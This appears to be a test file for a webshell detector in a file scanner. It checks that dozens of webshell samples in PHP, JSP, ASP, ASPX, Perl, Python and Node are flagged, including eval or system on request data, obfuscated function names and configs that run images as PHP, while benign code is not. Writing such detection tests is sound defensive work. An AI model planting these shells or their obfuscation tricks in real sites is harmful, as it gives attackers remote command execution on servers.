import assert from 'node:assert/strict'
import { test } from 'node:test'

import { detectContext } from '../../../../test/support/detect-context.ts'
import { headBytes } from '../../scan-object.ts'
import { bytesSource } from '../../source/byte-source.ts'
import type { Suspicion } from '../detector.ts'
import { webshellDetector } from './index.ts'

// In pieces, so that this file itself is not found by any scanner: `§` stands in every dangerous word.
const php = (code: string): string => `<?php\n${code.replaceAll('§', '')}\n`
const page = (code: string): string => code.replaceAll('§', '')

function judged(text: string): Suspicion | undefined {
  let found: Suspicion | undefined
  const bytes = Buffer.from(text, 'latin1')
  webshellDetector.detect(
    { chain: ['sample'], depth: 0, source: bytesSource(bytes), head: bytes.subarray(0, headBytes) },
    detectContext({
      report: assert.fail,
      suspect: (finding) => {
        assert.equal(found, undefined, 'one finding an object')
        found = finding
      },
    }),
  )
  return found
}

const certain: readonly (readonly [string, string])[] = [
  ['eval of a field', "e§val($_P§OST['c']);"],
  ['through a variable and decoding', "$a = base§64_decode($_REQ§UEST['c']);\ne§val($a);"],
  ['a command', "echo sys§tem($_G§ET['cmd']);"],
  ['backticks', 'echo `{$_G§ET["c"]}`;'],
  ['a command behind cmd /c', "she§ll_exec('cmd /c ' . $_G§ET['c']);"],
  ['the request names function and argument', "$f = $_G§ET['f']; $f($_P§OST['x']);"],
  ['a callback', "array§_map('ass§ert', (array) $_P§OST['x']);"],
  ['a callback at the end', "usort($_G§ET, 'sys§tem');"],
  ['the modifier e', "preg_rep§lace('/x/e', $_P§OST['x'], 'x');"],
  ['a name in pieces', "$a = 'as' . 'se' . 'rt'; $a($_P§OST[1]);"],
  ['a name by exclusive or', `$a = "${xored('assert')}" ^ "!!!!!!"; $a($_P§OST[1]);`],
  ['a name that counts letters', "$a = 'r'; $a++; $b = $a . 'y' . $a . 'tem'; $b($_P§OST[1]);"],
  ['a source by its name', "$g = '_' . 'P' . 'OST'; e§val(${$g}['x']);"],
  ['through a function of the file', "function run($code) { e§val($code); }\nrun($_P§OST['x']);"],
  [
    'through a property',
    'class A { public $c; function __construct($c) { $this->c = $c; } function __destruct() { e§val($this->c); } }\nnew A($_P§OST[1]);',
  ],
  ['variables set by the request', 'ext§ract($_P§OST); sys§tem($cmd);'],
  [
    'a loop that decodes a name',
    "$s = 'bttfsu'; $f = ''; for ($i = 0; $i < 6; $i++) { $f .= chr(ord($s[$i]) - 1); } $f($_P§OST[1]);",
  ],
  ['the body of the request', "$d = file_get_§contents('php://input'); e§val($d);"],
  ['a made function', "$f = crea§te_function('', $_P§OST['x']); $f();"],
  ['an uploaded file that is included', "incl§ude $_FI§LES['f']['tmp_name'];"],
  ['a decoded layer', `e§val(base§64_decode('${Buffer.from('eval($_POST[1]);').toString('base64')}'));`],
  ['jumps', 'goto b; a: e§val($x); goto c; b: $x = $_P§OST[1]; goto a; c:'],
]
for (const [title, code] of certain) {
  test(`the request's data that runs is certain: ${title}`, () => {
    const found = judged(php(code))
    assert.equal(found?.name, 'Heuristic.Webshell.PHP')
    assert.ok(found.score >= 90, `${found.score}: ${found.reasons.join('; ')}`)
    assert.ok(found.techniques.includes('T1505.003'))
  })
}

function xored(text: string): string {
  const hex = [...Buffer.from(text)].map((byte) => (byte ^ 0x21).toString(16).padStart(2, '0'))
  return hex.map((pair) => String.raw`\x${pair}`).join('')
}

const suspicious: readonly (readonly [string, string])[] = [
  ['register_globals', 'sys§tem($cmd);'],
  ['an upload that nobody checks', "move_uploa§ded_file($_FI§LES['f']['tmp_name'], $_FI§LES['f']['name']);"],
  ['a file of any name and contents', "file_put_§contents($_P§OST['n'], $_P§OST['t']);"],
  ['a picture that is included', "incl§ude 'images/a.jpg';"],
  ['code of another host', "e§val(file_get_§contents('http://example.org/x.txt'));"],
]
for (const [title, code] of suspicious) {
  test(`what only intruders write is told: ${title}`, () => {
    assert.ok((judged(php(code))?.score ?? 0) >= 60)
  })
}

const ordinary: readonly (readonly [string, string])[] = [
  ['a number', "$n = (int) $_GET['n']; system('kill ' . $n);"],
  ['a quoted argument', "system('ping ' . escapeshellarg($_GET['host']));"],
  [
    'a list of what may be called',
    "$f = $_GET['f']; if (!in_array($f, ['a', 'b'])) { die(); } $f($_GET['x']);",
  ],
  [
    'a framework that dispatches',
    "$action = $_GET['action']; $this->$action($_POST); call_user_func_array([$this, $action], $_POST);",
  ],
  [
    'a template engine',
    'class T { function show($file) { $code = $this->compile(file_get_contents($file)); eval("?>" . $code); } }',
  ],
  ['an assertion about the request', "assert(is_string($_GET['x'])); assert($_GET['y'] !== null);"],
  [
    'a checked upload',
    "$ext = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if ($ext === 'png') move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name']);",
  ],
  [
    'callbacks of its own',
    "usort($_POST['rows'], 'compare'); array_map('trim', $_POST); call_user_func([$this, 'run'], $_GET);",
  ],
  ['a page by its name', "include 'pages/' . $_GET['p'] . '.php';"],
  ['Base64 for a picture', "header('Content-type: image/png'); echo base64_decode('iVBORw0KGgo=');"],
  ['words in a comment', '/* eval($_POST[1]) */ // system($_GET[1])\n$a = 1;'],
  ['words in a text', 'echo \'eval($_POST[1]); system($_GET["c"])\';'],
  ['a method called exec', "$pdo->exec($_POST['sql']);"],
]
for (const [title, code] of ordinary) {
  test(`ordinary PHP stays below the threshold: ${title}`, () => {
    const found = judged(php(code))
    assert.ok((found?.score ?? 0) < 60, `${found?.score}: ${found?.reasons.join('; ')}`)
  })
}

test('a reason names the line, where the data came from and where it goes', () => {
  const found = judged(php("// first\n$a = $_PO§ST['c'];\n// third\nev§al($a);"))
  assert.deepEqual(found?.reasons, ["line 5: $_POST['c'] reaches eval"])
})

test('code behind a picture is found', () => {
  const found = judged(`GIF89a\0\0\0\x01\x02${php("e§val($_P§OST['c']);")}`)
  assert.equal(found?.name, 'Heuristic.Webshell.PHP')
})

test('UTF-16 text is read', () => {
  const bytes = Buffer.from(`\ufeff${php("e§val($_P§OST['c']);")}`, 'utf16le').toString('latin1')
  assert.ok((judged(bytes)?.score ?? 0) >= 90)
})

const pages: readonly (readonly [name: string, title: string, code: string, least: number])[] = [
  [
    'JSP',
    'a command',
    '<%@ page import="java.io.*" %><% Runtime.getRun§time().ex§ec(request.getPara§meter("c")); %>',
    90,
  ],
  [
    'JSP',
    'a class from bytes',
    '<% class L extends ClassLo§ader { Class d(byte[] b) { return super.define§Class(b, 0, b.length); } }\nbyte[] data = new byte[9]; request.getInput§Stream().read(data); new L().d(data); %>',
    90,
  ],
  [
    'JSP',
    'escaped letters',
    String.raw`<%@ page import="java.io.*" %><% Runtime.getRuntime().\u0065\u0078\u0065\u0063(request.getParameter("c")); %>`,
    90,
  ],
  [
    'JSP',
    'XML',
    '<jsp:root><jsp:scriptlet><![CDATA[ new ProcessBu§ilder(request.getPara§meter("c")).start(); ]]></jsp:scriptlet></jsp:root>',
    90,
  ],
  [
    'JSP',
    'a file',
    '<% new java.io.FileOutput§Stream(request.getPara§meter("f")).write(request.getPara§meter("t").getBytes()); %>',
    60,
  ],
  ['ASP', 'eval', '<%ev§al req§uest("x")%>', 90],
  ['ASP', 'a variable', '<%\nc = req§uest("x")\nex§ecute(c)\n%>', 90],
  ['ASP', 'letters by number', '<%ex§ecute("ev" & Chr(97) & "l req§uest(""x"")")%>', 90],
  ['ASP', 'a program', '<%\nSet s = Server.CreateObject("WScr§ipt.Sh§ell")\ns.Ex§ec(Req§uest("c"))\n%>', 90],
  ['ASPX', 'JScript', '<%@ Page Language="Jscript"%><%ev§al(Req§uest.Item["x"],"unsafe");%>', 90],
  [
    'ASPX',
    'a program',
    '<%@ Page Language="C#" %><script runat="server">void A(){ System.Diagnostics.Proc§ess.Start("cmd.exe", "/c " + Req§uest["c"]); }</script>',
    90,
  ],
  [
    'ASPX',
    'a loaded program',
    '<%@ WebHandler Language="C#" Class="H" %>\nclass H { void P(){ Asse§mbly.Load(Convert.FromBase64String(Req§uest["x"])); } }',
    90,
  ],
  ['Perl', 'a command', '#!/usr/bin/perl\nuse CGI;\nmy $command = param("c");\nprint `$command`;\n', 60],
  [
    'Python',
    'a command',
    '#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\ncommand = form.getvalue("c")\nos.system(command)\n',
    60,
  ],
  [
    'Node',
    'a command',
    "const cp = require('child_process')\nrequire('http').createServer((req, res) => {\n  const command = url.parse(req.url, true).query.c\n  cp.exec(command)\n})\n",
    60,
  ],
  ['Config', 'pictures that run', 'AddType application/x-httpd-php .jpg\n', 60],
  ['Config', 'a file before every script', 'auto_prepend_file = "php://input"\n', 60],
]
for (const [name, title, code, least] of pages) {
  test(`${name} is judged: ${title}`, () => {
    const found = judged(page(code))
    assert.equal(found?.name, `Heuristic.Webshell.${name}`)
    assert.ok(found.score >= least, `${found.score}: ${found.reasons.join('; ')}`)
  })
}

const cleanPages: readonly (readonly [string, string])[] = [
  ['JSP', '<%@ page import="java.util.*" %><% String n = request.getParameter("name"); out.println(n); %>'],
  [
    'ASP',
    '<% Set conn = Server.CreateObject("ADODB.Connection")\nconn.Execute("select * from t where id=" & CInt(Request("id"))) %>',
  ],
  [
    'ASP.NET',
    '<%@ Page Language="C#" %><script runat="server">void A(){ label.Text = Server.HtmlEncode(box.Text); }</script>',
  ],
  ['a template', '<ul><% items.forEach(function (item) { %><li><%= item.name %></li><% }) %></ul>'],
  ['Perl', '#!/usr/bin/perl\nuse CGI;\nmy $name = param("name");\nprint "Hello $name";\n'],
  ['.htaccess', 'AddHandler application/x-httpd-php .php .phtml\nRewriteEngine On\n'],
]
for (const [title, code] of cleanPages) {
  test(`an ordinary page stays below the threshold: ${title}`, () => {
    assert.ok((judged(code)?.score ?? 0) < 60)
  })
}

const hostile: readonly (readonly [string, string])[] = [
  ['brackets without end', `<?php e§val(${'('.repeat(200_000)}`],
  ['blocks without end', `<?php sys§tem(1); ${'if($a){'.repeat(50_000)}`],
  ['a loop without end', "<?php while (true) { $a .= 'x'; } e§val($a);"],
  ['loops in loops', `<?php ${'for($i=0;$i<1000;$i++){'.repeat(9)} e§val($a); ${'}'.repeat(9)}`],
  ['a function that calls itself', "<?php function f($a) { f($a . 'x'); f('y' . $a); e§val($a); } f('');"],
  ['text that doubles', `<?php $a = 'xxxxxxxx'; ${'$a = $a . $a;'.repeat(200)} e§val($a);`],
  ['code that makes itself', "<?php $c = 'e§val($c);'; e§val($c);"],
  ['a long chain', `<?php e§val(${Array.from({ length: 100_000 }, () => "'a'").join('.')});`],
  ['braces in a string', `<?php e§val("${'{$a'.repeat(50_000)}`],
  ['a heredoc without end', `<?php e§val(<<<A\n${'A \n'.repeat(50_000)}`],
  ['jumps in a circle', '<?php a: goto b; b: goto a; e§val(1);'],
  ['open blocks', '<% ex§ecute request '.repeat(20_000)],
  ['open encoded blocks', `<%${'#@~^'.repeat(50_000)} request`],
  ['many statements of one variable', `<% request ${'a = a & b\n'.repeat(20_000)} ex§ecute a`],
]
for (const [title, code] of hostile) {
  test(`hostile text ends soon: ${title}`, () => {
    const start = performance.now()
    judged(page(code))
    assert.ok(performance.now() - start < 3000)
  })
}

test('a request’s data as one argument of a fixed command is a weakness, not a shell', () => {
  const found = judged(php("sys§tem('ping ' . $_G§ET['host']);"))
  assert.ok((found?.score ?? 0) < 60)
})
